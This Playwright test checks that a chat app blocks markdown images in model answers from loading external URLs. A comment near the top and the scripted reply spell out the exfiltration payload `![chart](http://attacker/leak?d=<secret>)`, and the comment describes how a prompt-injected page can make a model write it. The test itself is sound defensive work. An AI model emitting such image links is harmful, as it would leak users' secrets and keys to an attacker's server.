// An answer is model output, and model output is untrusted: a prompt-injected page or document can make the model
// write `![x](http://attacker/leak?d=<secret>)`. In a real browser, with an attacker's listener on another loopback
// port: the answer renders, its image from the app itself loads, and the attacker's listener gets nothing; a button
// names the attacker's host, and only its click opens the image (in a new tab, without the page's address).
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, test } from '@playwright/test';
import { lastAnswer, openChat, send } from './support/chat';
import { setScenario } from './support/model';

const SECRET = 'sk-leaked-by-an-image-0042';

let attacker: http.Server;
let attackerPort: number;
const hits: { url: string; referer?: string }[] = [];

test.beforeAll(async () => {
  attacker = http.createServer((req, res) => {
    hits.push({ url: req.url ?? '', referer: req.headers.referer });
    res.writeHead(200, { 'content-type': 'image/svg+xml' }).end('<svg xmlns="http://www.w3.org/2000/svg"/>');
  });
  await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve));
  attackerPort = (attacker.address() as AddressInfo).port;
});

test.afterAll(async () => {
  attacker.closeAllConnections();
  await new Promise((r) => attacker.close(r));
});

test("an answer's image on another site is not loaded: a button names its host; the app's own image shows", async ({
  page,
  context,
}) => {
  const leak = `http://127.0.0.1:${attackerPort}/leak?d=${SECRET}`;
  await setScenario({
    rules: [
      {
        when: { lastUserIncludes: 'summarize the page' },
        reply: { content: `Here is the summary.\n\n![chart](${leak})\n\n![logo](/icon.svg)\n\nThat is all.` },
      },
    ],
  });
  await openChat(page);
  await send(page, 'summarize the page');
  const answer = await lastAnswer(page);
  await expect(answer).toContainText('That is all.');

  // The app's own image loaded (so the page did load the answer's images it may)...
  const own = answer.locator('img[src="/icon.svg"]');
  await expect(own).toBeVisible();
  await expect.poll(() => own.evaluate((img: HTMLImageElement) => img.complete && img.naturalWidth > 0)).toBe(true);
  // ...and the other site's did not: no element points there, and nothing reached the attacker.
  await expect(answer.locator(`img[src*="${attackerPort}"]`)).toHaveCount(0);
  const load = answer.getByRole('button', { name: `Load image from 127.0.0.1:${attackerPort}`, exact: true });
  await expect(load).toBeVisible();
  await expect(answer).toContainText('Image not loaded: chart');
  // Settle: the page has rendered and idled, and still nothing left for the attacker.
  await page.waitForLoadState('networkidle');
  expect(hits).toEqual([]);

  // Even an image element put into the page by other means is refused by the page's CSP.
  const refused = await page.evaluate(
    (src) =>
      new Promise<string>((resolve) => {
        document.addEventListener('securitypolicyviolation', (e) => resolve(e.violatedDirective), { once: true });
        const img = document.createElement('img');
        img.src = src;
        document.body.append(img);
      }),
    `${leak}&via=injected`,
  );
  expect(refused).toBe('img-src');
  expect(hits).toEqual([]);

  // The click is the user's decision: the image opens in a new tab, without the page's address as referrer.
  const [tab] = await Promise.all([context.waitForEvent('page'), load.click()]);
  await tab.waitForLoadState();
  expect(tab.url()).toBe(leak);
  // (The new tab may also ask the attacker's site for its favicon, as any tab does.)
  expect(hits.filter((h) => h.url !== '/favicon.ico')).toEqual([{ url: `/leak?d=${SECRET}`, referer: undefined }]);
  await tab.close();
});
